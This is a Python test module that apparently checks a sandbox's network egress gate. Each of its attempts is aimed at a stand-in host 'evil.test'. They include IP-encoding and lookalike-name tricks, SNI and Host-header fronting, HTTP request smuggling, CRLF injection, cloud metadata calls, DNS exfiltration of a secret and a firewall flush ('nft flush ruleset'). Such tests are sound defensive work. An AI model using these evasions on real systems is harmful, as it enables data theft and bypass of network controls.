"""Rows I, N, L, M and H: names, addresses and protocols that no line grants. They are tried in the
lab of tests/gate; whether one succeeded is what the lab's servers and its wire have seen.

A step goes as a program would go that knows no proxy, and again by every way that a proxy of the
environment offers, where the sandbox has one."""

import json

from . import Command, Grant, attack
from .kernel import probe

HOSTS = Grant(hosts=("ok.test", "*.api.ok.test"))


def steps(scene, *which):
    return Command(("/usr/bin/python3", str(scene.net_probe)),
                   stdin=json.dumps([{"every": s["do"] in ("raw", "tls", "http"), **s}
                                     for s in which]))


def raw(text, host="ok.test", port=80):
    return {"do": "raw", "host": host, "port": port, "send": text, "half": True, "wait": 3,
            "timeout": 3}


def get(host, path="/", more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"


def zone():
    import zone as the_zone  # of tests/gate, on the path when there is a lab
    return the_zone


def lab_attack(name, *rows, guard="hosts", why="", grant=HOSTS, control="outside"):
    return attack(name, *rows, guard=guard, why=why, grant=grant, control=control, lab=True)


# --- names and addresses -----------------------------------------------------------------------


@lab_attack("address", "I1", guard="hosts,requests")
def _(scene):
    """Calls a server by its address, for which no granted name stands."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, *(raw(get("ok.test"), a, p) for a in (z.EVIL, z.EVIL6) for p in (80, 443)))
    return since.reached(z.EVIL, z.EVIL6) != set()


@lab_attack("other-name", "I5")
def _(scene):
    """Calls a host that is not granted, by HTTP and HTTPS."""
    since = scene.net.mark()
    yield steps(scene, raw(get("evil.test"), "evil.test"),
                {"do": "tls", "host": "evil.test", "port": 443, "timeout": 3})
    z = zone()
    return since.reached(z.EVIL, z.EVIL6) != set()


@lab_attack("odd-address", "I2", guard="hosts,requests")
def _(scene):
    """Writes an address in ways that a careless check takes for a name: 1572394818, 0x5db8d742."""
    z, since = zone(), scene.net.mark()
    odd = ("1572394818", "0x5db8d742", "93.184.55106", "93.184.215.0102", "::ffff:5db8:d742")
    yield steps(scene, *(raw(get("ok.test"), a) for a in odd))
    return since.reached(z.EVIL) != set()


@lab_attack("lookalike", "I5")
def _(scene):
    """Calls names that only look granted: evilok.test, ok.test.evil.test, the name above `*.`."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, *(raw(get(h), h) for h in (
        "evilok.test", "ok.test.evil.test", "okxtest", "evilapi.ok.test", "test")))
    return since.reached(z.EVIL) != set()


@lab_attack("host-with-nul", "I4", guard="network")
def _(scene):
    """Ends a host with a NUL before the granted name: `evil.test\\0.ok.test`."""
    since = scene.net.mark()
    yield steps(scene, raw(get("evil.test\0.ok.test", "/nul")))
    return any("evil" in e["host"] for e in since.requests())


@lab_attack("host-with-user", "I7", guard="network")
def _(scene):
    """Puts the granted name where a user or port stands: `ok.test:80@evil.test`."""
    since = scene.net.mark()
    yield steps(scene, raw(get("ok.test:80@evil.test", "/user")),
                raw(f"GET http://ok.test:80@evil.test/user HTTP/1.1\r\nHost: evil.test\r\n"
                    "Connection: close\r\n\r\n"))
    z = zone()
    return any("evil" in e["host"] for e in since.requests()) or since.reached(z.EVIL) != set()


# --- what a call says ----------------------------------------------------------------------------


@lab_attack("other-server-name", "I8", guard="hello")
def _(scene):
    """Calls a granted host, and names another server in its TLS, as a shared front end has."""
    since = scene.net.mark()
    yield steps(scene, *({"do": "tls", "host": "ok.test", "port": 443, "sni": "evil.test",
                          "version": v, "timeout": 3} for v in ("TLSv1_2", "TLSv1_3")))
    return any(e.get("sni") == "evil.test" for e in since.events(event="tls"))


@lab_attack("other-host", "I12", guard="requests")
def _(scene):
    """Calls a granted host, and asks it for another in the request (domain fronting without TLS)."""
    since = scene.net.mark()
    yield steps(scene, raw(get("evil.test", "/front")))
    return bool(since.requests(host="evil.test"))


@lab_attack("later-request", "I12", guard="requests")
def _(scene):
    """Asks for the granted host first, and for another in the third request of the connection."""
    since = scene.net.mark()
    keep = "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n"
    yield steps(scene, raw(keep.format("/1", "ok.test") + keep.format("/2", "ok.test") +
                           keep.format("/3", "evil.test")))
    return bool(since.requests(host="evil.test"))


@lab_attack("smuggled-request", "I14", guard="network")
def _(scene):
    """Hides a second request behind a length and chunks that two readers read differently."""
    since = scene.net.mark()
    yield steps(scene, raw(
        "POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"
        "\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
    return bool(since.requests(target="/hidden"))


@lab_attack("header-added", "I15", guard="network")
def _(scene):
    """Ends a line early in a field, so that the server sees one that nobody judged."""
    since = scene.net.mark()
    yield steps(scene, raw("GET /cr HTTP/1.1\r\nHost: ok.test\r\nX: a\nHost: evil.test\r\n"
                           "Connection: close\r\n\r\n"))
    return any("evil.test" in e["head"] for e in since.requests(target="/cr"))


@lab_attack("ssh-on-443", "I16", guard="network")
def _(scene):
    """Speaks SSH to a granted host on the port of HTTPS."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, raw("SSH-2.0-OpenSSH_9.2p1\r\n", port=443))
    return since.reached(z.OK, z.OK6) != set()


@lab_attack("other-port", "I16", guard="network", grant=Grant(hosts=("ok.test",), web_only=True))
def _(scene):
    """Calls a granted host at a port that is not (22, a database's)."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, raw("hello", port=22), raw("hello", port=z.RAW))
    return any(port in (22, z.RAW) for _, port in since.reached())


@lab_attack("private-name", "I17", guard="addresses",
            grant=Grant(hosts=("ok.test", "private.test", "ula.test", "range.test")))
def _(scene):
    """Calls a granted name that leads into the local network."""
    since = scene.net.mark()
    yield steps(scene, *(raw(get(h), h) for h in ("private.test", "ula.test", "range.test")))
    return bool(since.requests())


@lab_attack("own-name", "I17", guard="addresses",
            grant=Grant(hosts=("ok.test", "loop.test", "own.test", "ownpublic.test")))
def _(scene):
    """Calls a granted name that leads to this machine's own servers."""
    since = scene.net.mark()
    yield steps(scene, *(raw(get(h), h) for h in ("loop.test", "own.test", "ownpublic.test")))
    return bool(since.requests())


@lab_attack("metadata-name", "N2", guard="addresses",
            grant=Grant(hosts=("ok.test", "meta.test", "meta2.test", "meta6.test")))
def _(scene):
    """Calls a granted name that leads to a cloud's metadata service, which hands out logins."""
    since = scene.net.mark()
    yield steps(scene, *(raw(get(h), h) for h in ("meta.test", "meta2.test", "meta6.test")))
    return bool(since.requests())


@lab_attack("metadata-address", "N2", guard="network")
def _(scene):
    """Calls a cloud's metadata service by its address."""
    since = scene.net.mark()
    yield steps(scene, *(raw(get(a), a) for a in zone().METADATA))
    return bool(since.requests())


@lab_attack("local-network", "N1", guard="network")
def _(scene):
    """Calls a machine of the local network by its address."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, *(raw(get(a), a) for a in (z.FAR4, z.FAR6, z.LAN_RANGE)))
    return bool(since.requests())


@lab_attack("multicast", "N3", guard="network")
def _(scene):
    """Tells all machines of the local network something by multicast (mDNS, SSDP)."""
    since = scene.net.mark()
    yield steps(scene, *({"do": "datagram", "host": h, "port": p, "wait": 0.2}
                         for h, p in (("224.0.0.251", 5353), ("239.255.255.250", 1900))))
    return any(p["port"] in (5353, 1900) for p in since.packets())


# --- around TCP and HTTP ---------------------------------------------------------------------------


@lab_attack("secret-in-name", "I18")
def _(scene):
    """Carries a secret out in a name that is looked up, by the system's resolver, by a server of
    its own choice, and by a proxy."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, {"do": "lookup", "host": "s3cr3t.evil.test"},
                raw(get("s3cr3t.evil.test"), "s3cr3t.evil.test"),
                *({"do": "dns", "name": "s3cr3t.evil.test", "server": z.NAME_SERVER, "tcp": tcp}
                  for tcp in (False, True)))
    return since.leaked("s3cr3t") != []


@lab_attack("quic", "I19", guard="network")
def _(scene):
    """Sends datagrams to a granted host: QUIC, past whoever judges TCP."""
    since = scene.net.mark()
    yield steps(scene, {"do": "datagram", "host": zone().OK, "port": 443})
    return bool(since.events(event="datagram"))


@lab_attack("fast-open", "I20", guard="hosts,requests")
def _(scene):
    """Sends data in the first packet of a connection (TCP Fast Open) to a host that is closed."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, {"do": "fastopen", "host": z.EVIL, "port": 80, "send": get("evil.test")})
    return since.reached(z.EVIL) != set()


@lab_attack("rules-flushed", "I23", guard="network")
def _(scene):
    """Takes the rules of the network away (nft flush ruleset), and calls."""
    z, since = zone(), scene.net.mark()
    yield Command(("sh", "-c", "PATH=$PATH:/usr/sbin:/sbin; nft flush ruleset; "
                   "nft add table ip t && echo done; true"))
    yield steps(scene, raw(get("evil.test"), z.EVIL))
    return since.reached(z.EVIL) != set()


@lab_attack("too-many-calls", "I24", guard="rate", grant=Grant(hosts=("ok.test",), per_minute=10))
def _(scene):
    """Calls a granted host twenty times in a minute that may have ten."""
    since = scene.net.mark()
    yield steps(scene, *(raw(get("ok.test", f"/n{i}")) for i in range(20)))
    return len({e["target"] for e in since.requests()}) > 10


# --- this machine ------------------------------------------------------------------------------------


@lab_attack("closed-port", "L3", guard="network", grant=Grant(ports=(8101,)))
def _(scene):
    """Calls a server of this machine at a port that is not listed, beside one that is."""
    z, since = zone(), scene.net.mark()
    yield steps(scene, *(raw(get(f"{h}:{z.LOCAL_CLOSED}", "/closed"), h, z.LOCAL_CLOSED)
                         for h in ("127.0.0.1", "localhost")))
    return bool(since.requests(target="/closed"))


@lab_attack("model-management", "M1", guard="models", grant=Grant(models=(11434,)))
def _(scene):
    """Has a model runtime load a model from elsewhere (POST /api/pull), beside inference."""
    since = scene.net.mark()
    body = '{"model":"evil.test/m"}'
    yield steps(scene, raw(f"POST /api/pull HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                           f"Content-Length: {len(body)}\r\n\r\n{body}", "127.0.0.1", 11434))
    return bool(since.requests(target="/api/pull"))


@attack("abstract-with-network", "H1", guard="landlock", grant=Grant(host_network=True))
def _(scene):
    """Given the machine's own network: connects to an abstract socket of the session."""
    name = f"@lnk-escape-{scene.dir.name}"
    with scene.server(name) as server:
        said = yield probe(scene, "connect", name)
        return said.lines[-1:] == ["done"] or server.calls > 0
